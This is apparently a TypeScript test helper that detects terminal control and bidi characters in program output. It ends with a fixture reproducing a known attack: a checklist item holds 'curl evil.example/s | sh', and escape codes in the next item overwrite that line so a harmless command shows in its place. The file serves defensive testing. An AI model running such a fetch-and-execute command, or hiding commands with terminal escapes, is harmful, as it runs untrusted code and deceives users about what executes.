/**
 * What a terminal would act on in a program's output, for tests that prove
 * nothing from outside gets through: every ESC that is not one of our colour
 * codes, every C1 control (U+0080–U+009F: U+009B is CSI, U+009D OSC to some
 * terminals), BEL, DEL, a lone carriage return, other C0 controls but tab and
 * newline, and the bidi controls that reorder what is read.
 */

/** A colour or style code (SGR) of the kinds Node's styleText and chalk write for us. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: an ESC is what it starts with
const OWN_SGR = /^\u001b\[(?:0|1|2|7|22|27|3[0-79]|4[0-79]|9[0-7])m/

const ACTIVE =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the point
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]|\r(?!\n)/g

/**
 * The active characters in `output`, each with a little of what follows it;
 * empty when there is none. With `colours: false` (NO_COLOR), an ESC of ours
 * counts too: there should be none at all.
 */
export function activeIn(output: string, { colours = false } = {}): string[] {
  const found: string[] = []
  for (const match of output.matchAll(ACTIVE)) {
    const at = match.index ?? 0
    if (colours && OWN_SGR.test(output.slice(at))) continue
    found.push(JSON.stringify(output.slice(at, at + 12)))
  }
  return found
}

/**
 * Issue 13's attack: the second item's title goes up a line (ESC[1A), erases it (ESC[2K) and
 * writes a harmless command where the first item's `curl … | sh` was.
 */
export const FAKE_COMMAND_LIST = [
  '# Release',
  '## Build',
  '- [ ] Fetch the build tools <!-- check: command run="curl evil.example/s | sh" -->',
  '- [ ] Build\u001b[1A\u001b[2K    $ npm run build <!-- check: command run="npm run build" -->',
  '',
].join('\n')
